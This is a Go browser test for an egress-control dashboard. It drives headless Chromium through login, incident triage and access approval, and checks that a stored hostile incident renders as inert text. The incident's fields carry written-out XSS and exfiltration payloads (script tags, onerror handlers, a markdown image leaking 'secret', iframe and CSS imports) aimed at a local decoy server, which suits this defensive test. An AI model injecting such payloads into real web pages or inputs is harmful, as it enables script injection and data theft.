package dashboard

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"

	"github.com/sluice-egress/sluice/incident"
	"github.com/sluice-egress/sluice/store"
)

// findChromium returns a Chromium or Chrome binary: $SLUICE_CHROMIUM, else
// the first of the usual names on $PATH.
func findChromium() string {
	if p := os.Getenv("SLUICE_CHROMIUM"); p != "" {
		return p
	}
	for _, n := range []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable", "headless-shell", "chrome"} {
		if p, err := exec.LookPath(n); err == nil {
			return p
		}
	}
	return ""
}

// screenshotDir is dashboard/testdata/out (ignored by git), or
// $SLUICE_SCREENSHOTS.
func screenshotDir(t *testing.T) string {
	d := os.Getenv("SLUICE_SCREENSHOTS")
	if d == "" {
		d = filepath.Join("testdata", "out")
	}
	if err := os.MkdirAll(d, 0o755); err != nil {
		t.Fatal(err)
	}
	return d
}

// requestLog records every request the browser sends.
type requestLog struct {
	mu   sync.Mutex
	urls []string
}

func (l *requestLog) add(u string) {
	l.mu.Lock()
	l.urls = append(l.urls, u)
	l.mu.Unlock()
}

func (l *requestLog) all() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]string(nil), l.urls...)
}

// TestBrowser drives headless Chromium through the dashboard: log in, see
// a fresh incident appear, filter, triage it as a false positive with a
// proposal, view a hostile incident, approve an access request. Every
// request the browser makes must stay on the dashboard's origin, and the
// decoy server that hostile incident text points at must see no request.
func TestBrowser(t *testing.T) {
	bin := findChromium()
	if bin == "" {
		if os.Getenv("SLUICE_REQUIRE_BROWSER") == "1" {
			t.Fatal("SLUICE_REQUIRE_BROWSER=1 but no chromium on $PATH (apt-get install -y chromium, or set SLUICE_CHROMIUM)")
		}
		t.Skip("UNTESTED: no chromium on $PATH (apt-get install -y chromium); set SLUICE_REQUIRE_BROWSER=1 to fail instead")
	}
	if testing.Short() {
		t.Skip("browser test skipped in -short mode")
	}
	// The decoy: an origin the hostile incident points at. Any hit on it
	// means the page loaded something from another host.
	var decoyHits atomic.Int64
	decoy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/control" {
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, `<!doctype html><title>control</title><img src="/control.png">`)
			return
		}
		decoyHits.Add(1)
		http.NotFound(w, r)
	}))
	defer decoy.Close()
	decoyHost := strings.TrimPrefix(decoy.URL, "http://")

	w := mustPageWorld(t)
	now := time.Now().UTC()
	evil := hostileIncident("inc_evil", now.Add(-time.Minute))
	evil.Snippet = fmt.Sprintf(`<script src="//%[1]s/x.js"></script><img src=//%[1]s/img.png onerror=alert(1)>`+
		`![exfil](http://%[1]s/md.png?d=secret) <iframe src="http://%[1]s/frame"></iframe>`+
		`<link rel=stylesheet href=//%[1]s/x.css><style>@import url(//%[1]s/i.css)</style>`, decoyHost)
	evil.Path = fmt.Sprintf(`/"><img src=//%s/path.png>`, decoyHost)
	w.insert(evil, incident.Incident{ID: "inc_old", Time: now.Add(-2 * time.Hour), Tenant: "acme", Class: "agent", Kind: "deny",
		Reason: "host-not-allowed", Action: "block", Host: "old.example.test", Port: 443, Method: "CONNECT"})
	req, err := w.store.CreateAccessRequest(context.Background(), store.AccessRequest{Tenant: "acme", Host: "registry.example.test",
		Ports: []int{443}, Justification: "the build pulls images from it", ExpiresAt: now.Add(7 * 24 * time.Hour)})
	if err != nil {
		t.Fatal(err)
	}

	var log requestLog
	actx, cancel := chromedp.NewExecAllocator(context.Background(),
		append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(bin), chromedp.NoSandbox,
			chromedp.WindowSize(1280, 900), chromedp.Flag("disable-gpu", true))...)
	defer cancel()
	ctx, cancel := chromedp.NewContext(actx, chromedp.WithListener(func(ev any) {
		if e, ok := ev.(*network.EventRequestWillBeSent); ok {
			log.add(e.Request.URL)
		}
	}))
	defer cancel()
	if err := chromedp.Do(ctx); err != nil { // start the browser without a deadline
		t.Fatalf("start chromium %s: %v", bin, err)
	}
	tctx, tcancel := context.WithTimeout(ctx, 60*time.Second)
	defer tcancel()

	dir := screenshotDir(t)
	shot := func(name string) {
		t.Helper()
		b, err := chromedp.Run(tctx, chromedp.FullScreenshot(100))
		if err != nil {
			t.Fatalf("screenshot %s: %v", name, err)
		}
		if err := os.WriteFile(filepath.Join(dir, name+".png"), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	do := func(step string, actions ...chromedp.Action[chromedp.Void]) {
		t.Helper()
		if err := chromedp.Do(tctx, actions...); err != nil {
			shot("failed-" + strings.ReplaceAll(step, " ", "-"))
			t.Fatalf("%s: %v", step, err)
		}
	}
	text := func(sel string) string {
		t.Helper()
		s, err := chromedp.Run(tctx, chromedp.Text(chromedp.CSS(sel)))
		if err != nil {
			t.Fatalf("text of %s: %v", sel, err)
		}
		return s
	}
	eval := func(js string) int {
		t.Helper()
		n, err := chromedp.Run(tctx, chromedp.Evaluate[int](js))
		if err != nil {
			t.Fatalf("%s: %v", js, err)
		}
		return n
	}
	base := w.srv.URL

	// The listener works: a page that loads an image is seen.
	do("control", chromedp.Navigate(decoy.URL+"/control"), chromedp.Sleep(200*time.Millisecond))
	if got := strings.Join(log.all(), " "); !strings.Contains(got, "/control.png") {
		t.Fatalf("the request listener missed the control image: %s", got)
	}
	log = requestLog{}
	decoyHits.Store(0)

	// Pages need a login.
	do("open", chromedp.Navigate(base+"/incidents"), chromedp.WaitVisible(chromedp.ID("login")))
	shot("01-login")
	do("log in", chromedp.SetValue(chromedp.ID("user"), "rex"), chromedp.SetValue(chromedp.ID("password"), worldPassword),
		chromedp.Click(chromedp.ID("login")), chromedp.WaitVisible(chromedp.ID("incidents")))
	if !strings.Contains(text("#incidents"), "old.example.test") {
		t.Fatal("incident list without the stored incident")
	}

	// A fresh incident appears.
	w.insert(incident.Incident{ID: "inc_fresh", Time: time.Now().UTC(), Tenant: "acme", Class: "agent", Run: "run_01FRESH",
		Kind: "secret", Reason: "secret-detected", Action: "block", Host: "paste.example.test", Port: 443, Method: "POST",
		Path: "/api/upload", Rule: "github-pat", Where: "json:$.files[0].content", Decoding: "gzip > base64",
		Snippet: `{"token":"ghp_************************************"}`, Fingerprint: "fp-fresh"})
	do("reload", chromedp.Navigate(base+"/incidents"), chromedp.WaitVisible(chromedp.ID("incidents")))
	if !strings.Contains(text("#incidents"), "paste.example.test") {
		t.Fatal("the fresh incident does not appear")
	}

	// Filter by host.
	do("filter", chromedp.SetValue(chromedp.ID("f-host"), "paste.example.test"), chromedp.Click(chromedp.ID("apply")),
		chromedp.WaitNotPresent(chromedp.CSS(`a[href="/incidents/inc_old"]`)), chromedp.WaitVisible(chromedp.ID("incidents")))
	if n := eval(`document.querySelectorAll('#incidents tbody tr').length`); n != 1 {
		t.Fatalf("filtered list has %d rows, want 1", n)
	}
	if loc, _ := chromedp.Run(tctx, chromedp.Location()); !strings.Contains(loc, "host=paste.example.test") {
		t.Fatalf("filter not in the URL: %s", loc)
	}
	shot("02-incidents-filtered")

	// Triage: a false positive that proposes a rule allowlist entry.
	do("open incident", chromedp.Click(chromedp.CSS(`#incidents a[href="/incidents/inc_fresh"]`)),
		chromedp.WaitVisible(chromedp.ID("triage-form")))
	do("triage", chromedp.SetValue(chromedp.ID("state"), "false-positive"),
		chromedp.SetValue(chromedp.ID("note"), "a test fixture token, not a real one"),
		chromedp.SetValue(chromedp.ID("propose"), "rule-allowlist"),
		chromedp.Click(chromedp.ID("triage-save")), chromedp.WaitVisible(chromedp.ID("triage-note")))
	if s := text("#triage-state"); s != "false-positive" {
		t.Fatalf("triage state on the page %q", s)
	}
	in, err := w.store.GetIncident(context.Background(), "inc_fresh")
	if err != nil || in.Triage.State != incident.TriageFalsePositive || in.Triage.Actor != "rex" {
		t.Fatalf("stored triage %+v %v", in, err)
	}
	shot("03-incident-triaged")
	do("rules", chromedp.Navigate(base+"/rules"), chromedp.WaitVisible(chromedp.ID("proposals")))
	if !strings.Contains(text("#proposals"), "a test fixture token") {
		t.Fatal("the proposal is not on the rules page")
	}
	shot("04-rules")

	// The hostile incident renders inert.
	do("hostile", chromedp.Navigate(base+"/incidents/inc_evil"), chromedp.WaitVisible(chromedp.ID("evidence")),
		chromedp.Sleep(300*time.Millisecond))
	if title, _ := chromedp.Run(tctx, chromedp.Title()); strings.Contains(title, "pwned") {
		t.Fatal("script ran on the hostile incident page")
	}
	if n := eval(`document.querySelectorAll('script,img,iframe,object,embed,style,link[href*="//"]').length`); n != 0 {
		t.Fatalf("%d active elements on the hostile incident page", n)
	}
	if s := text("#evidence"); !strings.Contains(s, "<script") || !strings.Contains(s, "![exfil]") {
		t.Fatalf("the evidence is not shown as text: %q", s)
	}
	shot("05-hostile-incident")
	do("hostile list", chromedp.Navigate(base+"/incidents"), chromedp.WaitVisible(chromedp.ID("incidents")), chromedp.Sleep(200*time.Millisecond))

	// Approve an access request.
	do("access", chromedp.Navigate(base+"/access"), chromedp.WaitVisible(chromedp.ID("req-"+req.ID)))
	shot("06-access-pending")
	do("approve", chromedp.SetValue(chromedp.CSS("#req-"+req.ID+` input[name="reason"]`), "needed for the image build"),
		chromedp.Click(chromedp.CSS("#req-"+req.ID+" button.approve")), chromedp.WaitNotPresent(chromedp.ID("req-"+req.ID)))
	got, err := w.store.GetAccessRequest(context.Background(), req.ID)
	if err != nil || got.State != store.AccessApproved || got.Reviewer != "rex" || got.Reason != "needed for the image build" {
		t.Fatalf("after approval: %+v %v", got, err)
	}

	// The remaining pages, for the record.
	for _, p := range []struct{ name, path, sel string }{
		{"07-overview", "/", "svg.chart"},
		{"08-policy", "/policy", "main"},
		{"09-audit", "/audit", "#audit"},
		{"10-access-approved", "/access?state=approved", "#requests"},
	} {
		do(p.name, chromedp.Navigate(base+p.path), chromedp.WaitVisible(chromedp.CSS(p.sel)))
		shot(p.name)
	}

	// Nothing left the dashboard's origin.
	if n := decoyHits.Load(); n != 0 {
		t.Errorf("the decoy host got %d requests", n)
	}
	var off []string
	for _, u := range log.all() {
		if !strings.HasPrefix(u, base+"/") && !strings.HasPrefix(u, "data:") {
			off = append(off, u)
		}
	}
	if len(off) > 0 {
		t.Errorf("requests left the dashboard's origin: %v", off)
	}
	if len(log.all()) < 10 {
		t.Errorf("only %d requests recorded: is the listener working?", len(log.all()))
	}
	t.Logf("screenshots in %s", dir)
}
